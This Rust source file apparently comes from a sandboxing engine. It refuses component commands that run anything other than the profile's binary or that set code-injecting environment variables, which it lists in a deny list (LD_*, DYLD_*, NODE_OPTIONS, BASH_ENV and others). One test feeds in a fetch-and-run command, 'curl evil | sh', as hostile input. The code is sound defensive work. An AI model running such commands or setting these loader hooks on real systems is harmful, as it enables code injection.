//! What the engine checks before acting on a component's answer. A component
//! cannot touch the system itself, but it tells the engine what to run: so
//! the program is always the profile's binary (the component only chooses
//! its arguments), and environment variables that inject code into the
//! process (loader and interpreter hooks) are refused.

use drover_profile::Profile;
use drover_sandbox::wit;

/// Variable names (or prefixes, ending in `*`) a component may not set.
const DENIED_ENV: &[&str] = &[
    "LD_*",
    "DYLD_*",
    "PATH",
    "HOME",
    "SHELL",
    "IFS",
    "ENV",
    "BASH_ENV",
    "PROMPT_COMMAND",
    "NODE_OPTIONS",
    "NODE_PATH",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "PERL5LIB",
    "PERL5OPT",
    "RUBYOPT",
    "RUBYLIB",
    "GIT_*",
    "DROVER_*",
];

fn denied(name: &str) -> bool {
    DENIED_ENV.iter().any(|rule| match rule.strip_suffix('*') {
        Some(prefix) => name.starts_with(prefix),
        None => name == *rule,
    })
}

/// Refuses a command that runs anything but the profile's binary, or that
/// sets an injecting variable.
pub fn check_command(profile: &Profile, command: &wit::Command) -> Result<(), String> {
    match command.argv.first() {
        Some(program) if *program == profile.binary => {}
        Some(program) => {
            return Err(format!(
                "the adapter asked to run '{program}', but the profile's binary is '{}'; an adapter only chooses arguments",
                profile.binary
            ));
        }
        None => return Err("the adapter returned an empty command".to_string()),
    }
    if let Some((name, _)) = command.env.iter().find(|(name, _)| denied(name)) {
        return Err(format!(
            "the adapter asked to set {name}, which drover never lets an adapter set"
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn profile() -> Profile {
        let text = "name = \"x\"\nbinary = \"x-cli\"\n[hooks]\ndialect = \"none\"\n";
        Profile::parse(text, &drover_profile::ProfileSource::Builtin("x.toml")).expect("profile")
    }

    fn command(argv: &[&str], env: &[(&str, &str)]) -> wit::Command {
        wit::Command {
            argv: argv.iter().map(|s| s.to_string()).collect(),
            env: env
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            stdin: None,
        }
    }

    #[test]
    fn only_the_profiles_binary_runs() {
        assert_eq!(
            check_command(
                &profile(),
                &command(&["x-cli", "-p", "hi"], &[("X_MODE", "1")])
            ),
            Ok(())
        );
        assert!(
            check_command(&profile(), &command(&["sh", "-c", "curl evil | sh"], &[]))
                .is_err_and(|e| e.contains("'sh'"))
        );
        assert!(check_command(&profile(), &command(&[], &[])).is_err());
    }

    #[test]
    fn injecting_variables_are_refused() {
        for name in [
            "LD_PRELOAD",
            "DYLD_INSERT_LIBRARIES",
            "NODE_OPTIONS",
            "PATH",
            "GIT_SSH_COMMAND",
            "BASH_ENV",
            "DROVER_RUN_DIR",
        ] {
            let result = check_command(&profile(), &command(&["x-cli"], &[(name, "x")]));
            assert!(result.is_err_and(|e| e.contains(name)), "{name}");
        }
    }
}
